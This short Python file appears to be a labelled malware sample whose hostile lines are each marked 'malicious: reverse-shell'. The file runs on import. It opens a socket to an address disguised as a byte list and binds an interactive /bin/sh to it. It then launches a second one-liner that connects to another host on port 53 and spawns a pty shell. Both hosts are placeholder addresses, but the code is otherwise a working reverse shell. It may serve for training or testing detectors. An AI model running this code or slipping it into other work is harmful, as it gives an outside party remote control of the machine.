import socket, subprocess, os
def _run():
    s = socket.socket(); s.connect((bytes([49, 57, 50, 46, 48, 46, 50, 46, 57]).decode(), 5555))  # malicious: reverse-shell
    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # malicious: reverse-shell
    subprocess.run(["python3", "-c", "import pty,socket,os;s=socket.socket();s.connect(('203.0.113.8',53));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"])  # malicious: reverse-shell
_run()
